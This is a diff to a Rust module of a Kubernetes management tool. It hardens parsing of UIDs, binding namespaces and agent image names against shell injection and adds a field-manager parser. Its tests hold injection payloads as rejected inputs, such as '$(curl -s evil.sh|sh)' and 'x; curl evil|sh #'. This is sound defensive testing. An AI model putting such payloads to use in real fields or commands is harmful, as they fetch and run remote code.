@@ -4,12 +4,18 @@
 use base64::{Engine, engine::general_purpose::STANDARD};
 use go_formats::yaml::{self, Quota};
 use helmops_api::NamespacedName;
+use helmops_model::validation::names;
 use serde::{Deserialize, de::DeserializeOwned};
 use serde_json::Value;
 use thiserror::Error;
 
 use super::kubeconfig::MAX_BYTES;
 use crate::{access::Joined, agent_objects::NAME};
+
+/// Longest UID, in bytes. Those of Kubernetes have 36.
+const MAX_UID: usize = 64;
+/// Longest image of an agent, in bytes: a repository of 255, a tag of 128 and a digest. It is remembered on the Cluster.
+const MAX_IMAGE: usize = 512;
 
 /// A response is not the object that was requested.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Error)]
@@ -151,6 +157,30 @@ struct PriorityClassBody {
 }
 
 #[derive(Deserialize)]
+struct ManagedBody {
+    metadata: ManagedMetadata,
+}
+
+#[derive(Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct ManagedMetadata {
+    #[serde(default)]
+    resource_version: String,
+    #[serde(default)]
+    managed_fields: Option<Vec<ManagedFields>>,
+}
+
+#[derive(Deserialize)]
+struct ManagedFields {
+    #[serde(default)]
+    manager: String,
+    #[serde(default)]
+    operation: String,
+    #[serde(default)]
+    subresource: String,
+}
+
+#[derive(Deserialize)]
 struct StatusBody {
     kind: String,
     #[serde(default)]
@@ -161,16 +191,16 @@ fn decode<T: DeserializeOwned>(body: &[u8]) -> Result<T, NotThatObject> {
     serde_json::from_slice(body).map_err(|_| NotThatObject)
 }
 
-/// The UID of a namespace.
+/// The UID of a namespace. It becomes a part of commands in messages, so it has no characters that mean something to a shell.
 ///
 /// # Errors
 /// If it is no object with a UID.
 pub fn uid(body: &[u8]) -> Result<String, NotThatObject> {
     let OnlyMetadata { metadata } = decode(body)?;
-    if metadata.uid.is_empty() || metadata.uid.len() > 64 {
-        return Err(NotThatObject);
-    }
-    Ok(metadata.uid)
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
+    let is_valid =
+        !metadata.uid.is_empty() && metadata.uid.len() <= MAX_UID && metadata.uid.bytes().all(is_plain);
+    is_valid.then_some(metadata.uid).ok_or(NotThatObject)
 }
 
 /// Whether a Deployment or StatefulSet has replicas.
@@ -189,6 +219,7 @@ pub fn has_replicas(body: &[u8]) -> Result<bool, NotThatObject> {
 pub fn installed_agent(body: &[u8]) -> Result<InstalledAgent, NotThatObject> {
     let Workload { spec } = decode(body)?;
     let container = spec.template.spec.containers.into_iter().next();
+    let container = container.filter(|container| container.image.len() <= MAX_IMAGE);
     let container = container.ok_or(NotThatObject)?;
     Ok(InstalledAgent {
         image: container.image,
@@ -237,7 +268,7 @@ fn management_of(kubeconfig: &str) -> Option<(String, String)> {
     Some((text("server").to_owned(), authorities))
 }
 
-/// The `ClusterRoleBinding` of an agent.
+/// The `ClusterRoleBinding` of an agent. Its namespaces become a part of commands in messages, so other texts than names are refused.
 ///
 /// # Errors
 /// If it is none.
@@ -247,12 +278,46 @@ pub fn binding(body: &[u8]) -> Result<Binding, NotThatObject> {
         .into_iter()
         .flatten()
         .filter(|subject| subject.name == NAME);
+    let namespaces: Vec<_> = subjects.filter_map(|subject| subject.namespace).collect();
+    if namespaces
+        .iter()
+        .any(|namespace| names::namespace(namespace).is_err())
+    {
+        return Err(NotThatObject);
+    }
     Ok(Binding {
         claim: metadata
             .annotations
             .and_then(|annotations| annotations.imported_by),
-        namespaces: subjects.filter_map(|subject| subject.namespace).collect(),
+        namespaces,
         resource_version: metadata.resource_version,
+    })
+}
+
+/// Who has applied an object.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Managed {
+    /// Its version.
+    pub resource_version: String,
+    /// The position in `metadata.managedFields` of the field manager that is looked for; `None` if there is nothing to take over.
+    pub position: Option<usize>,
+}
+
+/// What `other` has applied (server-side apply), if `own` has applied nothing yet.
+///
+/// # Errors
+/// If it is no object.
+pub fn managed(body: &[u8], own: &str, other: &str) -> Result<Managed, NotThatObject> {
+    let ManagedBody { metadata } = decode(body)?;
+    let fields = metadata.managed_fields.unwrap_or_default();
+    let applied = |manager: &str| {
+        fields
+            .iter()
+            .position(|one| one.operation == "Apply" && one.manager == manager && one.subresource.is_empty())
+    };
+    Ok(Managed {
+        resource_version: metadata.resource_version,
+        position: applied(other).filter(|_| applied(own).is_none()),
     })
 }
 
@@ -361,6 +426,29 @@ mod tests {
     }
 
     #[test]
+    fn the_fields_of_another_manager_are_taken_once() {
+        let position = |entries: &[(&str, &str, &str)]| {
+            let entries: Vec<_> = entries
+                .iter()
+                .map(|(manager, operation, subresource)| {
+                    json!({ "manager": manager, "operation": operation, "subresource": subresource, "fieldsV1": {} })
+                })
+                .collect();
+            let object = json!({ "metadata": { "resourceVersion": "7", "managedFields": entries } });
+            managed(&bytes(&object), "controller", "join").unwrap().position
+        };
+        assert_eq!(position(&[]), None);
+        let joined = ("join", "Apply", "");
+        assert_eq!(position(&[("kubelet", "Update", "status"), joined]), Some(1));
+        assert_eq!(position(&[joined, ("controller", "Apply", "")]), None);
+        assert_eq!(position(&[joined, ("controller", "Update", "")]), Some(0));
+        assert_eq!(
+            position(&[("join", "Update", ""), ("join", "Apply", "scale")]),
+            None
+        );
+    }
+
+    #[test]
     fn a_hostile_response_is_refused_or_skipped() {
         let deep = |levels: usize| format!("{}{}", "[".repeat(levels), "]".repeat(levels));
         let skipped = format!(
@@ -381,6 +469,8 @@ mod tests {
             r#"{"metadata":{"uid":""}}"#,
             r#"{"metadata":{"uid":1}}"#,
             &format!(r#"{{"metadata":{{"uid":"{}"}}}}"#, "u".repeat(65)),
+            r#"{"metadata":{"uid":"$(curl -s evil.sh|sh)"}}"#,
+            r#"{"metadata":{"uid":"a b"}}"#,
             &format!(r#"{{"metadata":{}}}"#, deep(100_000)),
             &deep(100_000),
         ] {
@@ -389,6 +479,13 @@ mod tests {
         for body in ["{}", r#"{"spec":{"template":{"spec":{"containers":[]}}}}"#] {
             assert_eq!(installed_agent(body.as_bytes()), Err(NotThatObject), "{body}");
         }
+        for namespace in ["x; curl evil|sh #", "", "$(id)", &"n".repeat(200 << 10)] {
+            let subjects = json!([{ "name": NAME, "namespace": namespace }]);
+            let hostile = binding(&bytes(&json!({ "metadata": {}, "subjects": subjects })));
+            assert_eq!(hostile, Err(NotThatObject), "{namespace:.20}");
+        }
+        let long = json!({ "spec": { "template": { "spec": { "containers": [{ "image": "i".repeat(MAX_IMAGE + 1) }] } } } });
+        assert_eq!(installed_agent(&bytes(&long)), Err(NotThatObject));
         let secret = joined_secret(br#"{"data":{"kubeconfig":"%","clusterName":"AA"}}"#).unwrap();
         assert_eq!(secret, JoinedSecret::default());
     }
